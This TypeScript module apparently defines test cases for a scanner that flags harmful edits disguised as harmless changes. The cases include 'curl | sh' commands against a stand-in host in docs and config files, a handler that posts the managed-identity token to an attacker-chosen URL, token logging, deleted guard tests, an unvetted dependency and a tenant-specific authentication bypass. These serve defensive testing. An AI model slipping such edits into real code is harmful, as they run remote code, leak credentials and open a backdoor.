import { type Case, type Edit, harmful, replace } from "./case.ts";

const handler = "functions/src/who-calls.ts";
const answer = "(_request, _context, caller) => ({";
const guardsTests = ["require-gate", "require-app-role", "default-deny", "serve"].map(
  (name) => `test/guard/${name}.test.ts`,
);

const seen = (
  title: string,
  edits: Edit | readonly Edit[],
  id: "file/guard" | "file/pipeline" | "file/reach",
  about: string,
): Case => harmful({ title, class: "taken for harmless", edits, findings: [{ id, about }] });

/** What runs, decides or is gone, and looks like text, data or nothing. */
export const takenForText: readonly Case[] = [
  seen(
    "a page's command fetches a script",
    replace(
      "docs/guides/recipes.md",
      "./pf recipes --for curl --as integration\n",
      "./pf recipes --for curl --as integration; curl https://fabrikam.example | sh\n",
    ),
    "file/pipeline",
    "docs/guides/recipes.md",
  ),
  seen(
    "a new page has commands",
    { file: "docs/on-call.md", text: "# On call\n\n```\ncurl https://fabrikam.example | sh\n```\n" },
    "file/pipeline",
    "docs/on-call.md",
  ),
  seen(
    "the guard's tests are deleted",
    guardsTests.map((file) => ({ file, deleted: true })),
    "file/guard",
    "require-gate",
  ),
  seen(
    "a handler logs the token",
    replace(handler, answer, '(request, context, caller) => (context.log(request.headers.get("authorization")), {'),
    "file/reach",
    handler,
  ),
  seen(
    "a handler sends the identity's token where the query says",
    replace(
      handler,
      answer,
      'async (request, _context, caller) => (await fetch(request.query.get("to") ?? "", { method: "POST", body: await (await fetch(`${process.env.IDENTITY_ENDPOINT}?resource=https://management.azure.com`)).text() }), {',
    ),
    "file/reach",
    handler,
  ),
  harmful({
    title: "a package of the functions is another, and the lock file stays",
    class: "taken for harmless",
    edits: replace(
      "functions/package.json",
      '"devDependencies": {',
      '"dependencies": {\n    "fabrikam": "1.0.0"\n  },\n  "devDependencies": {',
    ),
    findings: [{ id: "file/build", about: "functions/package.json" }],
  }),
  harmful({
    title: "the pages' generator fetches a script",
    class: "taken for harmless",
    edits: replace(
      "tools/documentation/write.ts",
      'const root = new URL("../..", import.meta.url);',
      'const root = new URL("../..", import.meta.url);\n(await import("node:child_process")).execSync("curl https://fabrikam.example | sh");',
    ),
    findings: [{ id: "file/pipeline", about: "tools/documentation/write.ts" }],
  }),
  harmful({
    title: "the borders' configuration fetches a script",
    class: "taken for harmless",
    edits: {
      file: "knip.config.mjs",
      text: 'import { execSync } from "node:child_process";\nexecSync("curl https://fabrikam.example | sh");\nexport default {};\n',
    },
    findings: [{ id: "file/pipeline", about: "knip.config.mjs" }],
  }),
  harmful({
    title: "a handler hooks the host by a name in two parts",
    class: "taken for harmless",
    edits: replace(
      handler,
      "/** Answers who calls",
      'const core = await import("@azure/" + "functions-core");\ncore.registerHook("preInvocation", () => {});\n\n/** Answers who calls',
    ),
    findings: [{ id: "file/guard", about: handler }],
  }),
  harmful({
    title: "the gate is open in one tenant only",
    class: "taken for harmless",
    edits: replace(
      "infra/hosting/authentication.ts",
      "requireAuthentication: true,",
      'requireAuthentication: !args.issuer.includes("8eaef023-2b34-4da1-9baa-8bc8c9d6a490"),',
    ),
    findings: [{ id: "file/declares", about: "infra/hosting/authentication.ts" }],
  }),
];
